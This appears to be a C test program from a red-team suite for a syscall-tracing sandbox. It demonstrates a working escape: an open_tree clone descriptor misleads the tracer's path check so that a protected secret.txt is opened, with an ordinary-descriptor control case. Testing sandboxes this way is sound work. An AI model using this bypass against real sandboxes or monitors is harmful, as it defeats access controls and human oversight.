/* attach_tree: a descriptor made before `systrace --attach` that /proc names by another
 * object's path (red team 9, class 1).  open_tree(SECD, OPEN_TREE_CLONE) gives a descriptor
 * of a detached copy of the directory's mount tree, whose root /proc/PID/fd/N names "/"; the
 * tracer, which had seen no mount call, took that name and decided openat(N, "secret.txt")
 * as "/secret.txt" -- permitted -- and the kernel opened SECD/secret.txt.
 *
 *   attach_tree clone SECD      (root: open_tree in the tracer's namespace)
 *   attach_tree plain SECD      (control of parity: an ordinary descriptor of SECD's parent,
 *                                then openat(N, "pubd/secret.txt") of the decoy)
 *
 * $ESC_WAIT_TRACER: wait for a tracer after making the descriptor (attack.h).
 */
#include "attack.h"

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif

int main(int argc, char **argv) {
    if (argc < 3)
        usage("attach_tree clone|plain SECD");
    int clone = strcmp(argv[1], "clone") == 0;
    int d;
    if (clone) {
        d = (int)syscall(SYS_open_tree, AT_FDCWD, argv[2], OPEN_TREE_CLONE | O_CLOEXEC);
        if (d < 0)
            skipped("open_tree(OPEN_TREE_CLONE): %s", ename(errno));
    } else {
        char parent[4096];
        snprintf(parent, sizeof parent, "%s/..", argv[2]);
        d = open(parent, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (d < 0)
            blocked("open(SECD/..): %s", ename(errno));
    }
    note("descriptor %d -> %s", d, fd_name(d));
    wait_for_tracer();
    if (clone)
        try_open_at(d, "openat(the tree, secret.txt)", "secret.txt", O_RDONLY);
    else
        try_open_at(d, "openat(the parent, pubd/secret.txt)", "pubd/secret.txt", O_RDONLY);
    tally_done();
}
